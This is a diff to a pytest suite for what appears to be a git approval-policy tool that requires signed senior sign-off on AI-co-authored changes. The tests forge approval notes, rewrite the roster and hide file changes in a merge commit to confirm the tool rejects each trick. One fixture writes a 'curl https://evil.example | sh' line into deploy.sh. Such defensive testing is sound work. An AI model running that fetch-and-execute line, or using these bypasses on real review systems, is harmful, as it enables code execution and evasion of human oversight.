@@ -11,7 +11,7 @@ import pytest
 
 from caution.cli import main
 from caution.git.notes import append_note, read_notes
-from caution.git.repo import patch_id, repository_id
+from caution.git.repo import change_patch_id, first_parent_root, merge_base
 from caution.policy.approvals import read_approvals
 from caution.policy.config import load_config
 from caution.policy.ssh import sign
@@ -118,6 +118,19 @@ def approve(
     return code, out + err
 
 
+def statement_for(repo: Repo, commit: str, email: str, target: str = "main") -> Statement:
+    base = merge_base(repo.path, target, commit) or ""
+    return Statement(
+        first_parent_root(repo.path, "main") or "",
+        commit,
+        target,
+        change_patch_id(repo.path, base, commit) or "",
+        email,
+        "2026-01-01T00:00:00+00:00",
+        "",
+    )
+
+
 def forge(
     repo: Repo,
     key: Path,
@@ -129,14 +142,7 @@ def forge(
     statement: Statement | None = None,
 ) -> None:
     """Write an approval note by hand, as an attacker or a careless script would."""
-    statement = statement or Statement(
-        repository_id(repo.path),
-        commit,
-        patch_id(repo.path, commit) or "",
-        email,
-        "2026-01-01T00:00:00+00:00",
-        "",
-    )
+    statement = statement or statement_for(repo, commit, email)
     if namespace is None:
         signature = sign(statement.text().encode(), key)
     else:
@@ -181,8 +187,9 @@ def test_two_approvals_on_one_commit_append(
     head = setup_repo(repo, keys)
     assert approve(repo, keys, "alice", capsys)[0] == 0
     assert approve(repo, keys, "bob", capsys)[0] == 0
-    roster = load_config(repo.path).roster
-    assert sorted(r.approval.by for r in read_approvals(repo.path, roster, {head})) == [
+    config = load_config(repo.path, rev="main")
+    name = first_parent_root(repo.path, "main")
+    assert sorted(r.approval.by for r in read_approvals(repo.path, config, name, {head})) == [
         "alice",
         "bob",
     ]
@@ -307,17 +314,123 @@ def test_statement_for_another_repository(
     repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
 ) -> None:
     head = setup_repo(repo, keys)
-    statement = Statement(
-        "0" * 40,
-        head,
-        patch_id(repo.path, head) or "",
-        "alice@shop.example",
-        "2026-01-01T00:00:00+00:00",
-        "",
-    )
+    statement = replace(statement_for(repo, head, "alice@shop.example"), repository="0" * 40)
     forge(repo, keys["alice"], "alice@shop.example", head, statement=statement)
     code, report = check(repo, capsys)
     assert code == 1
     (approval,) = rule(report, "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
     assert approval["reason"] == "signed for another repository"
     assert replace(statement, comment="x").comment == "x"
+
+
+def test_a_change_cannot_rewrite_the_policy_that_judges_it(
+    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    setup_repo(repo, keys)
+    # the author adds a second identity to the roster and its key to the signers file
+    policy = (
+        (repo.path / ".caution.yml")
+        .read_text()
+        .replace(
+            "    agent:", "    mallory: {emails: [mallory@x.example], roles: [senior]}\n    agent:"
+        )
+    )
+    signers = (repo.path / ".caution/allowed_signers").read_text()
+    signers += signers_line("mallory@x.example", keys["mallory"])
+    repo.commit(
+        "tweak", {".caution.yml": policy, ".caution/allowed_signers": signers}, author=CAROL
+    )
+    code, said = approve(repo, keys, "mallory", capsys, email="mallory@x.example")
+    assert (code == 1 and "not in the roster" in said) or "does not verify" in said
+    forge(repo, keys["mallory"], "mallory@x.example", repo.git("rev-parse", "HEAD"))
+    code, report = check(repo, capsys)
+    assert (code, report["decision"]) == (1, "pending")
+    guard = rule(report, "caution-policy-changes")
+    assert guard["status"] == "pending"
+    assert all(not a["valid"] for a in guard["approvals"])  # type: ignore[attr-defined]
+
+
+def test_whitespace_and_earlier_commits_change_the_patch(
+    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    head = setup_repo(repo, keys, invalidate_on_push=False)
+    assert approve(repo, keys, "alice", capsys)[0] == 0
+    # the same last commit on top of an unreviewed one: the whole change differs
+    repo.git("checkout", "-q", "-b", "evil", "main")
+    repo.commit("helper", {"deploy.sh": "curl https://evil.example | sh\n"}, author=CAROL)
+    repo.git("cherry-pick", head)
+    code, report = check(repo, capsys)
+    assert code == 1
+    assert rule(report, "ai-changes-need-a-senior")["approvals"] == []
+    # a whitespace-only difference is a different patch too
+    repo.git("checkout", "-q", "-b", "spaced", "main")
+    repo.commit(
+        "Add coupons\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n",
+        {"services/checkout/cart.py": "total = 0\ncoupons  = []\n"},
+        author=CAROL,
+    )
+    code, report = check(repo, capsys)
+    assert code == 1
+    assert rule(report, "ai-changes-need-a-senior")["approvals"] == []
+
+
+def test_an_approval_is_for_one_target(
+    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    setup_repo(repo, keys)
+    assert approve(repo, keys, "alice", capsys)[0] == 0
+    repo.git("branch", "release", "main")
+    code, out, _ = cli(capsys, "-C", str(repo.path), "check", "release..feature", "-f", "json")
+    assert code == 1
+    (approval,) = rule(json.loads(out), "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
+    assert approval["reason"] == "approves merging into main, not release"
+
+
+def test_a_merge_commit_cannot_hide_files(
+    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
+    setup_repo(repo, keys)
+    policy = (repo.path / ".caution.yml").read_text() + (
+        "  block:\n    - name: no-ci\n      if: {changed_files: {paths: ['.github/**']}}\n"
+    )
+    repo.git("checkout", "-q", "main")
+    repo.commit("block CI edits", {".caution.yml": policy})
+    repo.git("checkout", "-q", "-b", "side", "main")
+    repo.commit("side work", {"side.txt": "x\n"})
+    repo.git("checkout", "-q", "feature")
+    repo.git("merge", "-q", "--no-commit", "--no-ff", "side")
+    repo.write(".github/workflows/x.yml", "on: push\n")
+    repo.git("add", "-A")
+    repo.git("commit", "-q", "-m", "Merge side")
+    code, report = check(repo, capsys)
+    assert (code, report["decision"]) == (1, "blocked")
+    assert rule(report, "no-ci")["status"] == "blocked"
+
+
+def test_shallow_clone_needs_a_repository_name(
+    repo: Repo, keys: dict[str, Path], capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    setup_repo(repo, keys)
+    assert approve(repo, keys, "alice", capsys)[0] == 0
+    clone = tmp_path / "shallow"
+    subprocess.run(
+        [
+            "git",
+            "clone",
+            "-q",
+            "--depth",
+            "1",
+            "--no-single-branch",
+            f"file://{repo.path}",
+            str(clone),
+        ],
+        check=True,
+    )
+    subprocess.run(
+        ["git", "fetch", "-q", "origin", "refs/notes/*:refs/notes/*"], cwd=clone, check=True
+    )
+    subprocess.run(["git", "checkout", "-q", "feature"], cwd=clone, check=True)
+    code, out, _ = cli(capsys, "-C", str(clone), "check", "origin/main..feature", "-f", "json")
+    assert code == 1
+    (approval,) = rule(json.loads(out), "ai-changes-need-a-senior")["approvals"]  # type: ignore[misc]
+    assert "shallow clone" in approval["reason"]
